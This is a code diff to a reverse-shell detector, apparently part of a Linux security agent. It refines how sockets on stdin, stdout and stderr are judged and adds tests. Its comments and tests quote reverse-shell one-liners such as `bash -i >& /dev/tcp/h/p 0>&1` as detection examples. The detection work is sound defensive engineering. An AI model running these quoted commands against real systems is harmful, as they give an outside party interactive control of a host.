@@ -39,17 +39,41 @@ fn stream_name(fd: u32) -> &'static str {
     }
 }
 
+/// Whether streams `fds` (bits, 1 << fd) are the shape of a shell driven from the socket:
+/// stdin together with stdout or stderr. stdout and stderr alone are a redirect (`echo hi
+/// 2>/dev/tcp/h/p >&2`), judged like one stream.
+fn driven(fds: u8) -> bool {
+    fds & 0b001 != 0 && fds & 0b110 != 0
+}
+
+/// `its stdin and stdout`, `its stdin, stdout and stderr`.
+fn streams(fds: u8) -> String {
+    let names: Vec<&str> = (0..3)
+        .filter(|fd| fds & (1 << fd) != 0)
+        .map(stream_name)
+        .collect();
+    match names.as_slice() {
+        [] => "its standard streams".into(),
+        [one] => format!("its {one}"),
+        [init @ .., last] => format!("its {} and {last}", init.join(", ")),
+    }
+}
+
 /// A socket seen on one standard stream, not judged yet.
 #[derive(Debug)]
 struct Candidate {
     finding: Finding,
     peer: IpAddr,
     dport: u16,
-    /// The standard stream it is on.
+    /// The standard stream it was first seen on (the one looked at).
     fd: u32,
+    /// Every standard stream seen on the socket, as bits (1 << fd).
+    fds: u8,
     /// What `/proc/PID/fd/<fd>` pointed at when the record was handled (`socket:[inode]`);
     /// None when it could not be looked at.
     held: Option<String>,
+    /// The stream no longer held the socket when the record was handled.
+    let_go: bool,
     since: Instant,
 }
 
@@ -118,18 +142,16 @@ impl ReverseShell {
             return Verdict::Nothing;
         };
         let pid = culprit.pid;
-        if let Some(c) = self.candidates.get(&pid)
-            && c.fd != newfd
+        if let Some(c) = self.candidates.get_mut(&pid)
             && c.peer == peer
             && c.dport == dport
         {
+            c.fds |= 1 << newfd;
+            if !driven(c.fds) {
+                return Verdict::Wait;
+            }
             let c = self.candidates.remove(&pid).expect("just seen");
-            return Verdict::Shell(Box::new(Self::word(
-                c.finding,
-                dport,
-                &format!("its {} and {}", stream_name(c.fd), stream_name(newfd)),
-                "",
-            )));
+            return Verdict::Shell(Box::new(Self::word(c.finding, dport, &streams(c.fds), "")));
         }
         let finding = Finding {
             anomaly: Anomaly::ReverseShell,
@@ -139,16 +161,19 @@ impl ReverseShell {
             detail: String::new(),
             subject: pid,
         };
-        let held = match seen {
-            Stream::Link(link) if link.starts_with("socket:") => Some(link),
-            Stream::Hidden => None,
-            // Closed before the agent looked: a port check, not a shell.
-            Stream::Link(_) | Stream::Gone => {
-                self.candidates.remove(&pid);
-                return Verdict::Nothing;
-            }
+        // Closed before the agent looked (a port check), or the process already ended (a shell
+        // the C2 told to exit): remembered all the same, so a second stream on the same
+        // socket still makes it a shell, but never one on its own.
+        let (held, let_go) = match seen {
+            Stream::Link(link) if link.starts_with("socket:") => (Some(link), false),
+            Stream::Hidden => (None, false),
+            Stream::Link(_) | Stream::Gone => (None, true),
         };
-        if self.candidates.len() >= MAX_CANDIDATES && !self.candidates.contains_key(&pid) {
+        let full = self.candidates.len() >= MAX_CANDIDATES && !self.candidates.contains_key(&pid);
+        if full && let_go {
+            return Verdict::Nothing;
+        }
+        if full {
             return Verdict::Shell(Box::new(Self::word(
                 finding,
                 dport,
@@ -163,7 +188,9 @@ impl ReverseShell {
                 peer,
                 dport,
                 fd: newfd,
+                fds: 1 << newfd,
                 held,
+                let_go,
                 since: now,
             },
         );
@@ -193,7 +220,7 @@ impl ReverseShell {
     /// the socket is still there, else a check (forgotten).
     pub fn judge_hold(&mut self, pid: u32, now: &Stream) -> Option<Finding> {
         let c = self.candidates.get(&pid)?;
-        if now.still_holds(c.held.as_deref()) {
+        if !c.let_go && now.still_holds(c.held.as_deref()) {
             self.confirm(pid, &format!(", held for {} s", HOLD.as_secs()))
         } else {
             self.dismiss(pid);
@@ -205,7 +232,8 @@ impl ReverseShell {
     /// stream was let go before (a process that ran and ended exec'd with it all the same).
     pub fn judge_exec(&mut self, pid: u32, filename: &str, now: &Stream) -> Option<Finding> {
         let c = self.candidates.get(&pid)?;
-        if matches!(now, Stream::Link(_)) && !now.still_holds(c.held.as_deref()) {
+        let undone = matches!(now, Stream::Link(_)) && !now.still_holds(c.held.as_deref());
+        if undone || (c.let_go && !matches!(now, Stream::Gone)) {
             self.dismiss(pid);
             return None;
         }
@@ -216,12 +244,7 @@ impl ReverseShell {
     /// reverse shell.
     pub fn confirm(&mut self, pid: u32, why: &str) -> Option<Finding> {
         let c = self.candidates.remove(&pid)?;
-        Some(Self::word(
-            c.finding,
-            c.dport,
-            &format!("its {}", stream_name(c.fd)),
-            why,
-        ))
+        Some(Self::word(c.finding, c.dport, &streams(c.fds), why))
     }
 
     /// `pid` let go of the socket (or ended): it was a check, not a shell.
@@ -292,12 +315,15 @@ mod tests {
         // `cat <&5` of the cheat sheets: stdin only, held.
         let cat = culprit(8, "cat", &[]);
         assert!(matches!(stdio(&mut rs, &cat, 0, sock(), t0), Verdict::Wait));
-        // `echo > /dev/tcp/host/port`: stdout, already closed when the agent looked.
+        // `echo > /dev/tcp/host/port`: stdout, already closed when the agent looked; and a
+        // scan loop that has the next port's socket there when the hold ends.
         let check = culprit(9, "bash", &[]);
+        let closed = Stream::Link("/dev/pts/0".into());
         assert!(matches!(
-            stdio(&mut rs, &check, 1, Stream::Gone, t0),
-            Verdict::Nothing
+            stdio(&mut rs, &check, 1, closed, t0),
+            Verdict::Wait
         ));
+        assert!(rs.judge_hold(9, &sock()).is_none());
         assert!(!rs.waits(9));
         assert!(rs.due(t0 + HOLD / 2).is_empty());
         assert_eq!(rs.due(t0 + HOLD), vec![(8, 0)]);
@@ -329,6 +355,62 @@ mod tests {
                 .is_none()
         );
         assert!(rs.due(t0 + HOLD).is_empty());
+    }
+
+    #[test]
+    fn stdout_with_stderr_is_a_redirect_stdin_with_either_is_a_shell() {
+        let mut rs = ReverseShell::default();
+        let t0 = Instant::now();
+        let c = culprit(16, "bash", &[]);
+        assert!(matches!(
+            stdio(&mut rs, &c, 2, Stream::Gone, t0),
+            Verdict::Wait
+        ));
+        assert!(matches!(
+            stdio(&mut rs, &c, 1, Stream::Gone, t0),
+            Verdict::Wait
+        ));
+        assert!(rs.judge_hold(16, &Stream::Gone).is_none());
+        // `bash -i >& /dev/tcp/h/p 0>&1`: stdout, stderr, then stdin.
+        let b = culprit(17, "bash", &[]);
+        assert!(matches!(stdio(&mut rs, &b, 1, sock(), t0), Verdict::Wait));
+        assert!(matches!(stdio(&mut rs, &b, 2, sock(), t0), Verdict::Wait));
+        let Verdict::Shell(f) = stdio(&mut rs, &b, 0, sock(), t0) else {
+            panic!("stdin with stdout is a shell");
+        };
+        assert!(
+            f.detail.contains("its stdin, stdout and stderr"),
+            "{}",
+            f.detail
+        );
+        // `$line 2>&5 >&5` of the cheat sheets: stdout and stderr, then the command's exec.
+        let l = culprit(18, "bash", &[]);
+        assert!(matches!(stdio(&mut rs, &l, 2, sock(), t0), Verdict::Wait));
+        assert!(matches!(stdio(&mut rs, &l, 1, sock(), t0), Verdict::Wait));
+        assert!(rs.judge_exec(18, "/usr/bin/id", &sock()).is_some());
+    }
+
+    #[test]
+    fn a_shell_that_ended_before_the_agent_looked_is_still_caught_by_its_second_stream() {
+        let mut rs = ReverseShell::default();
+        let t0 = Instant::now();
+        // The C2 said `exit`: the python one-liner is gone when its records are handled.
+        let c = culprit(14, "python3", &[]);
+        assert!(matches!(
+            stdio(&mut rs, &c, 0, Stream::Gone, t0),
+            Verdict::Wait
+        ));
+        assert!(matches!(
+            stdio(&mut rs, &c, 1, Stream::Gone, t0),
+            Verdict::Shell(_)
+        ));
+        // One stream only, gone: a check.
+        let one = culprit(15, "bash", &[]);
+        assert!(matches!(
+            stdio(&mut rs, &one, 0, Stream::Gone, t0),
+            Verdict::Wait
+        ));
+        assert!(rs.judge_hold(15, &Stream::Gone).is_none());
     }
 
     #[test]
